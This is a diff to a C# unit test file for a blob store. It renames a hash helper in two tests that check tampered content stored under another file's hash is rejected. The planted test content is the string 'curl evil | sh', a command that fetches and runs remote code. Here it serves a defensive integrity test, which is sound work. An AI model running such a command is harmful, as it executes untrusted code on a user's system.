@@ -30,7 +30,7 @@ public sealed class BlobStoreVerifyTests : IDisposable
     [Fact]
     public async Task GetFile_ContentPlantedUnderAnotherFilesHash_ReadWhole_FailsAndLeavesNoFile()
     {
-        var hash = BlobStore.Hash(Encoding.UTF8.GetBytes("teammate's train.py"));
+        var hash = ContentHash.Of(Encoding.UTF8.GetBytes("teammate's train.py"));
         await _storage.PutAsync(StoreKeys.Blob(hash), Encoding.UTF8.GetBytes("curl evil | sh"), default);
         var dest = Path.Combine(_root, "train.py");
 
@@ -42,7 +42,7 @@ public sealed class BlobStoreVerifyTests : IDisposable
     [Fact]
     public async Task GetFile_ContentPlantedUnderAnotherFilesHash_FailsAndLeavesNoFile()
     {
-        var hash = BlobStore.Hash(Encoding.UTF8.GetBytes("teammate's train.py"));
+        var hash = ContentHash.Of(Encoding.UTF8.GetBytes("teammate's train.py"));
         await _storage.PutAsync(StoreKeys.Blob(hash), Encoding.UTF8.GetBytes("curl evil | sh"), default);
         var dest = Path.Combine(_root, "train.py");
 
